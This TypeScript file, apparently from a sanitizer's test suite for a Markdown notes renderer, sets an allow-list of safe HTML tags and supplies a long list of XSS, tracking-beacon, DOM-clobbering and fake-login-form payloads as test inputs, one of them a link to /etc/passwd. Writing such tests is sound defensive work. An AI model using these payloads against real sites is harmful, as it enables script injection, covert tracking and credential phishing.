/** The elements that a note can have, and their attributes beside `dir`. */
export const SAFE: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    "p br hr h3 h4 h5 h6 ul li blockquote pre code em strong del thead tbody tr table"
      .split(" ")
      .map((tag) => [tag, []]),
  ),
  a: ["href", "target", "rel", "referrerpolicy"],
  ol: ["start"],
  td: ["align"],
  th: ["align"],
  div: ["class", "role", "tabindex", "aria-label"],
  input: ["type", "disabled", "aria-label", "checked"],
};

/** What people have tried on renderers of Markdown and on sanitizers: to run script, to be told that somebody reads, to forge the page. */
export const attacks = (canary: string): string[] => {
  const run = "globalThis.hacked=1";
  return [
    // Script.
    `<script>${run}</script>`,
    `<script src="${canary}.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${canary}.png" onload="${run}">`,
    `<svg onload="${run}"><script>${run}</script><image href="${canary}.svg"/></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a><use href="${canary}.svg#x"/></svg>`,
    `<svg><style><img src=x onerror="${run}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${canary}1.png onerror=${run}&gt;">`,
    `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=${canary}2.png onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><img src="${canary}3.png" onerror="${run}"></template>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<input autofocus onfocus="${run}">`,
    `<body onload="${run}"><p onclick="${run}" onpointerenter="${run}">x</p>`,
    `<iframe src="javascript:parent.hacked=1"></iframe>`,
    `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
    `<object data="${canary}.svg"></object><embed src="${canary}.swf">`,
    `<x-card is="script" onclick="${run}">x</x-card>`,
    // Links.
    `[x](javascript:${run})`,
    `[x](JaVaScRiPt:${run})`,
    `[x](java&#10;script:${run})`,
    `[x](&#106;avascript:${run})`,
    `[x](\u0001javascript:${run})`,
    `[x](vbscript:x) [x](data:text/html,<script>${run}</script>) [x](blob:x) [x](file:///etc/passwd)`,
    `<javascript:${run}>`,
    `[x][1]\n\n[1]: javascript:${run}`,
    `[x](/keyring) [x](//example.org) [x](#place) [x](keyring) [x](https://) [x](http:keyring)`,
    `<a href="https://example.org" ping="${canary}-ping" target="_self" rel="opener" download onclick="${run}">x</a>`,
    `<a href="javascript&colon;${run}">x</a><area href="javascript:${run}">`,
    `[x](https://example.org" onclick="${run})`,
    `[x](https://example.org 'a" onclick="${run}')`,
    `![x](x" onerror="${run})`,
    // Being told that somebody reads.
    `![alt](${canary}4.png)`,
    `![alt][1]\n\n[1]: ${canary}5.png "title"`,
    `[![alt](${canary}6.png)](https://example.org)`,
    `<img srcset="${canary}7.png 1x"><picture><source srcset="${canary}8.png"><img></picture>`,
    `<video src="${canary}.mp4" poster="${canary}9.png" autoplay></video><audio src="${canary}.mp3" preload="auto"></audio>`,
    `<video><source src="${canary}10.mp4"><track src="${canary}.vtt" default></video>`,
    `<link rel="stylesheet" href="${canary}.css"><link rel="prefetch" href="${canary}11"><link rel="preconnect" href="${canary}12">`,
    `<style>@import "${canary}13.css"; body { background: url(${canary}14.png) }</style>`,
    `<p style="background: url(${canary}15.png); position: fixed; inset: 0">x</p>`,
    `<table background="${canary}16.png"><tr><td background="${canary}17.png">x</td></tr></table>`,
    `<body background="${canary}18.png">`,
    `<input type="image" src="${canary}19.png">`,
    `<meta http-equiv="refresh" content="0;url=${canary}20">`,
    `<base href="${canary}21/"><script type="speculationrules">{"prefetch":[{"urls":["${canary}22"]}]}</script>`,
    `<frameset><frame src="${canary}23"></frameset>`,
    `<portal src="${canary}24"></portal><fencedframe src="${canary}25"></fencedframe>`,
    // Forging the page.
    `<form action="${canary}26"><input name="passphrase"><button>Unlock</button></form>`,
    `<button formaction="javascript:${run}">x</button><isindex action="javascript:${run}">`,
    `<p id="place" name="notesText" class="card" data-words="skip" contenteditable>x</p>`,
    `<a id="merged"><a id="merged" name="result" href="cid:x">x</a>`,
    `<form id="document"><input name="querySelector"><input name="attributes"></form>`,
    `<p role="alert" aria-live="assertive" tabindex="1" accesskey="x" slot="x" part="x" popover lang="ar" hidden>x</p>`,
    `<title>Forged</title><dialog open>x</dialog><marquee>x</marquee>`,
    `<div class="wide" role="group" tabindex="0">x</div><span dir="rtl" style="x">x</span>`,
    // Against the reader of Markdown itself.
    `\`\`\`"><img src=${canary}27.png onerror=${run}>\nx\n\`\`\``,
    `\`<img src=${canary}28.png>\` ~~~<script>${run}</script>`,
    `| <img src=${canary}29.png> |\n|:-:|\n| <script>${run}</script> |`,
    `- [x] <img src=${canary}30.png onerror=${run}>\n- [ ] "><script>${run}</script>`,
    `# <svg/onload=${run}>\n\n> <script>${run}</script>`,
    `<!--><img src=${canary}31.png onerror=${run}>--> <![CDATA[<script>${run}</script>]]> <?x ${run}?>`,
    `<https://example.org/"onmouseover="${run}> https://example.org/"onclick="${run}`,
    `&lt;script&gt;${run}&lt;/script&gt; \\<script>${run}</script>`,
    `a\u0000<scr\u0000ipt>${run}</script>`,
  ];
};
